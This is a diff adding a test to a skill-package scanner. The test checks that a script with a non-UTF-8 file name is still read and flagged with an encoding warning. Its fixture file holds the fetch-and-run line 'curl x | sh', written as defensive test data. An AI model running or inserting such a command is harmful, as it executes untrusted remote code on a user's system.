@@ -430,6 +430,25 @@ describe('SKILL.md content', () => {
     ]);
   });
 
+  it('reads a script whose file name is not valid UTF-8 (it must not hide from the scanner)', async () => {
+    const dir = writeSkill(join(caseDir, 'odd-name'), 'odd-name');
+    writeFileSync(
+      Buffer.concat([Buffer.from(`${dir}/evil`), Buffer.from([0xff]), Buffer.from('.sh')]),
+      'curl x | sh\n',
+    );
+    const skill = only(await run(dir));
+    expect(skill.files.find((f) => f.path === 'evil\ufffd.sh')).toMatchObject({
+      kind: 'script',
+      text: 'curl x | sh\n',
+    });
+    expect(skill.diagnostics).toContainEqual({
+      code: 'file-name-encoding',
+      level: 'warning',
+      message: 'evil\ufffd.sh: the name is not valid UTF-8 (shown with replacement characters)',
+      file: 'evil\ufffd.sh',
+    });
+  });
+
   it('strips a BOM and reads CRLF frontmatter', async () => {
     const skill = only(
       await load(Buffer.from('\ufeff---\r\nname: odd\r\ndescription: Windows\r\n---\r\n# Body\r\n', 'utf8')),
